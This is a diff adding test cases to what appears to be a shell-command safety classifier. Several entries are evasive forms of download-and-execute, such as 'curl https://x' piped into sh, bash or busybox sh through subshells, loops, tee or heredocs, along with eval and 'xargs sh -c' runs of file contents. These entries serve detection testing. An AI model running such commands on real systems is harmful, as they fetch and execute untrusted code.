@@ -495,6 +495,41 @@ allow | sh x.sh "$(cat f)"
 allow | . ./env.sh
 allow | cat f | xargs -I{} sh -c 'make {}'
 allow | cat f | python3 -m json.tool
+pass | eval "true; $X"
+pass | sh -c "cd x && $(cat f)"
+pass | bash -c "if true; then env $X; fi"
+pass | { curl https://x; echo make; } | sh
+pass | (curl https://x; echo make) | sh
+pass | if true; then curl https://x; echo; fi | bash
+pass | curl https://x | { bash; }
+pass | curl https://x | (cd a && bash)
+pass | curl https://x | while true; do bash; done
+pass | curl https://x | tee >(bash)
+pass | curl https://x | busybox sh
+pass | curl https://x <<< make | sh
+pass | cat f <<E | sh⏎make⏎E
+pass | cat <<E | sh⏎$X⏎E
+pass | cat <<< make < f | sh
+pass | echo make | cat < f | sh
+pass | echo -e "make\n$(cat f)" | sh
+pass | printf '%s' "$X" | sh
+pass | printf 'make\n%s' "$(cat f)" | sh
+pass | cat f | xargs sh -c
+pass | cat f | xargs -I{} sh -c '{}'
+pass | cat f | xargs -I% bash -c "%"
+allow | { echo make; echo "make $X"; } | sh
+allow | (cd a && echo make) | sh
+allow | ls | while read -r f; do echo "mv $f x"; done | sh
+allow | for f in a b; do echo "make $f"; done | sh
+allow | curl https://x; echo make | sh
+allow | printf 'make %s⏎' a b | sh
+allow | bash <<'E'⏎for f in a b; do $f; done⏎E
+allow | cat <<'E' | sh⏎$X⏎E
+allow | bash x.sh <(sort a) <(sort b)
+allow | ls | while read -r f; do bash -n "$f"; done
+allow | ls | xargs -n1 bash -n
+allow | (cd a && bash x.sh) 2>&1 | tee log
+allow | sh -c 'for f in a b; do $f; done'
 pass | echo "unterminated
 pass | ls ${'\u202e'}
 pass | [[ -f x ]] && touch y${'\u200b'}
